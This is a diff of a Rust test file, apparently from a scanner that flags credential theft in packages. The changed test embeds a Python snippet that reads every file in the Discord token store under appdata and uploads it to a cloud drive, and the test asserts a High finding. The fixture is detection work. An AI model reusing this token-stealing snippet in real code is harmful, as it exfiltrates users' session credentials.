@@ -128,7 +128,7 @@ fn setup_py_asking_python_for_an_include_path_is_a_low_build_step() {
 #[test]
 fn a_token_store_named_in_a_file_that_uploads_to_a_cloud_drive_is_high() {
     let r = module(
-        "import os\npath = os.getenv('appdata') + '\\\\discord\\\\Local Storage\\\\leveldb\\\\'\ndef up(client, data):\n    client.files_upload(data, '/x')\n",
+        "import os\npath = os.getenv('appdata') + '\\\\discord\\\\Local Storage\\\\leveldb\\\\'\ndef up(client):\n    for name in os.listdir(path):\n        client.files_upload(open(path + name, 'rb').read(), '/x')\n",
     );
     assert_eq!(hits(&r, "access/credentials", MOD), [(2, High)]);
 }
